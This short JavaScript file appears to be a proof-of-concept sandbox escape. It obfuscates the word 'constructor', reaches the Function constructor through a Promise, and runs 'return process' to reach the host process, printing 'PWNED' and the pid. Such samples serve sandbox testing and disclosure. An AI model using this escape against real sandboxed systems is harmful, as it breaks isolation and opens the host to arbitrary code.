'use strict';
const w = ['con', 'structor'].join('');
const t = { go: (f) => f[w] };
t.go({});
const fn = (x) => x;
Promise.race([t]).then((x) => { const o = Date.now() > 1 ? x : {}; console.log('PWNED', o.go(fn)('return process')().pid); });
